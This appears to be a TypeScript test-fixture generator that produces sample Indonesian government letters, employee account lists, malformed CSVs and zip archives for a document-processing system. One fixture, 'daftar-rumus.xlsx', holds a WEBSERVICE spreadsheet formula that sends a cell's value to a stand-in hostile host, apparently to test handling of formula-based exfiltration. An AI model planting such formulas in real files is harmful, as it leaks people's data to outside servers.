/** Letters, papers of persons, several papers in one file, lists, archives. */
import { strToU8, zipSync } from 'fflate';
import { pageHtml } from './form-html.ts';
import type { Recipe } from './kit.ts';
import { LETTERS, OTHERS } from './pages-html.ts';
import { cell, workbookOf } from './workbook.ts';

const DOCX = 'docx:MS Word 2007 XML';
const XLSX = 'xlsx:Calc MS Excel 2007 XML';
/** Every column as text. */
const TEXTS = (columns: number): string =>
  `CSV:44,34,76,1,${Array.from({ length: columns }, (_, index) => `${index + 1}/2`).join('/')}`;

const chromium = (file: string, html: string): Recipe => ({
  file,
  programs: ['chromium'],
  make: (kit) => kit.chromium(html),
});
const writer = (file: string, html: string, to: string): Recipe => ({
  file,
  programs: ['soffice'],
  make: (kit) => kit.writer(html, to),
});
const byHand = (file: string, make: () => Uint8Array | string): Recipe => ({
  file,
  programs: [],
  make: () => Buffer.from(make()),
});

const PAGES: readonly Recipe[] = [
  chromium('surat-permintaan.pdf', LETTERS['surat-permintaan']),
  writer('nota-dinas.pdf', LETTERS['nota-dinas'], 'pdf:writer_pdf_Export'),
  chromium('surat-atas-nama.pdf', LETTERS['surat-atas-nama']),
  writer('surat-rekomendasi-plt.pdf', LETTERS['surat-rekomendasi-plt'], 'pdf:writer_pdf_Export'),
  writer('surat-permintaan.docx', LETTERS['surat-permintaan'], DOCX),
  ...Object.entries(OTHERS).map(([name, html]) => chromium(`${name}.pdf`, html)),
  {
    file: 'berkas-gabungan.pdf',
    programs: ['qpdf'],
    of: ['nota-dinas.pdf', 'form31-chromium-tabel.pdf', 'ktp.pdf'],
    make: (kit) => {
      const parts = ['nota-dinas.pdf', 'form31-chromium-tabel.pdf', 'ktp.pdf'];
      const files = parts.map((name) => kit.place(name, kit.made(name)));
      kit.run('qpdf', '--empty', '--pages', ...files, '--', kit.place('out.pdf'));
      return kit.read('out.pdf');
    },
  },
  {
    file: 'form31-dan-sk.pdf',
    programs: ['qpdf'],
    of: ['form31-hapus.pdf', 'sk-pensiun.pdf'],
    make: (kit) => {
      const [form, decree] = ['form31-hapus.pdf', 'sk-pensiun.pdf'].map((name) => kit.place(name, kit.made(name)));
      kit.run('qpdf', form ?? '', '--pages', form ?? '', decree ?? '', '--', kit.place('out.pdf'));
      return kit.read('out.pdf');
    },
  },
];

const HEAD = ['No', 'Nama Pegawai', 'NIP', 'Jabatan', 'Unit Kerja', 'Alamat E-mail'];
const PEOPLE = [
  ['1', 'Sari Dewi', '199001012015032001', 'Analis', 'Subbagian Mutasi', 'sari.dewi@kemenkeu.example'],
  ['2', 'Agus Wijaya', '199204172018011004', 'Pelaksana', 'Subbagian Mutasi', 'agus.wijaya@kemenkeu.example'],
  ['3', 'Maria Ulfah', '198811302012122002', 'Kepala Seksi', 'Direktorat PA', 'maria.ulfah@kemenkeu.example'],
];
const FAULTY = [
  ['No', 'Nama', 'NIP', 'E-mail'],
  ['1', 'Sari Dewi', '199001012015032001', 'sari.dewi@kemenkeu.example'],
  ['', '', '', ''],
  ['2', 'Agus Wijaya', '1,99204E+17', 'agus.wijaya@kemenkeu.example'],
  ['3', '', '198811302012122002', 'maria.ulfah@kemenkeu.example'],
  ['4', 'Sari Dewi', '199001012015032001', 'sari.d@kemenkeu'],
  ['5', 'Dodi', '12345', 'dodi@kemenkeu.example'],
];
const DEVICES = [
  ['No', 'Nama Perangkat', 'Serial Number', 'Kode BMN', 'NUP'],
  ['1', 'Laptop', 'PF3A91KX', '3.10.01.02.001', '12'],
  ['2', 'Laptop', 'PF3A91KY', '3100102001', '13'],
  ['3', 'Laptop', 'PF3A91KX', '31001020', '14'],
];

function separated(rows: readonly (readonly string[])[], by: string): string {
  const quoted = (cell: string): string =>
    cell.includes(by) || cell.includes('"') ? `"${cell.replace(/"/g, '""')}"` : cell;
  return `${rows.map((row) => row.map(quoted).join(by)).join('\r\n')}\r\n`;
}

const TITLED = separated([['Daftar Akun Kolektif'], [], HEAD, ...PEOPLE], ',');
const calc = (file: string, csv: string, to: string, columns: number | null): Recipe => ({
  file,
  programs: ['soffice'],
  make: (kit) => kit.calc(csv, to, columns === null ? undefined : TEXTS(columns)),
});

const MERGED = [
  `<row r="1">${cell('A1', 'Nama')}${cell('B1', 'NIP')}${cell('C1', 'Unit')}</row>`,
  `<row r="2">${cell('A2', 'Sari Dewi')}${cell('B2', '199001012015032001')}${cell('C2', 'Subbagian Mutasi')}</row>`,
  `<row r="3">${cell('A3', 'Agus Wijaya')}${cell('B3', '199204172018011004')}</row>`,
  `<row r="4">${cell('B4', '198811302012122002')}</row>`,
].join('');
const FORMULA = '<c r="B2" t="str"><f>WEBSERVICE("http://jahat.example/"&amp;A2)</f><v>199001012015032001</v></c>';
const tableHtml = (rows: readonly (readonly string[])[]): string =>
  `<table border="1">${rows.map((row) => `<tr>${row.map((text) => `<td>${text}</td>`).join('')}</tr>`).join('')}</table>`;

const LISTS: readonly Recipe[] = [
  byHand('daftar-akun-titik-koma.csv', () => separated([HEAD, ...PEOPLE], ';')),
  byHand('data.csv', () => {
    const text = separated([['DAFTAR PEGAWAI'], [], HEAD, ...PEOPLE], '\t');
    return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  }),
  byHand('daftar-akun-salah.csv', () => separated(FAULTY, ',')),
  calc('daftar-akun.xlsx', TITLED, XLSX, HEAD.length),
  calc('daftar-akun-angka.xlsx', separated([HEAD, ...PEOPLE], ','), XLSX, null),
  calc('daftar-akun.ods', TITLED, 'ods', HEAD.length),
  calc('perangkat.xlsx', separated(DEVICES, ','), XLSX, 5),
  byHand('daftar-akun-gabung.xlsx', () =>
    workbookOf(MERGED, '<mergeCells count="2"><mergeCell ref="C2:C4"/><mergeCell ref="A3:A4"/></mergeCells>'),
  ),
  byHand('daftar-rumus.xlsx', () =>
    workbookOf(
      `<row r="1">${cell('A1', 'Nama')}${cell('B1', 'NIP')}</row><row r="2">${cell('A2', 'Sari Dewi')}${FORMULA}</row>`,
    ),
  ),
  writer('daftar-akun.docx', pageHtml(`<h3>DAFTAR AKUN</h3>${tableHtml([HEAD, ...PEOPLE])}`), DOCX),
];

const ARCHIVES: readonly Recipe[] = [
  {
    file: 'berkas.zip',
    programs: [],
    of: ['form31-lengkap.pdf', 'daftar-akun-titik-koma.csv'],
    make: (kit) =>
      zipSync({
        'berkas/form31.pdf': kit.made('form31-lengkap.pdf'),
        'berkas/daftar.csv': kit.made('daftar-akun-titik-koma.csv'),
        'berkas/catatan.txt': strToU8('catatan'),
      }),
  },
  byHand('arsip-dalam-arsip.zip', () => zipSync({ 'dalam.zip': zipSync({ 'a.txt': strToU8('x') }) })),
  {
    file: 'terkunci.zip',
    programs: ['zip'],
    of: ['ktp.pdf'],
    make: (kit) => {
      kit.run('zip', '-j', '-q', '-P', 'rahasia', kit.place('terkunci.zip'), kit.place('ktp.pdf', kit.made('ktp.pdf')));
      return kit.read('terkunci.zip');
    },
  },
];

export const OTHER_RECIPES: readonly Recipe[] = [...PAGES, ...LISTS, ...ARCHIVES];
